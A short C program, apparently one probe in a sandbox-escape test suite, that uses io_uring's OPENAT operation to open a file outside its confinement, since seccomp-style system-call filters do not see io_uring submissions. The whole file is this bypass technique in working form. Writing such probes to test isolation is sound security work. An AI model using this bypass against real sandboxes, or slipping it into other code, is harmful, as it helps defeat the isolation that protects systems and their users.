// Opens what was planted through io_uring, which filters of system calls do not see.
#include "attack.h"
#include <linux/io_uring.h>

int main(void) {
    struct io_uring_params parameters = { 0 };
    int ring = (int)syscall(SYS_io_uring_setup, 4, &parameters);
    if (ring < 0)
        return over();
    char *queue = mmap(NULL, parameters.sq_off.array + parameters.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *done = mmap(NULL, parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, parameters.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    char path[8192];
    snprintf(path, sizeof path, "/..%s/outside/file", getenv("ATTACK_PLACE"));
    memset(entries, 0, sizeof *entries);
    entries->opcode = IORING_OP_OPENAT;
    entries->fd = AT_FDCWD;
    entries->addr = (uint64_t)(uintptr_t)path;
    ((unsigned *)(queue + parameters.sq_off.array))[0] = 0;
    *(unsigned *)(queue + parameters.sq_off.tail) += 1;
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) == 1)
        show(((struct io_uring_cqe *)(done + parameters.cq_off.cqes))->res);
    return over();
}
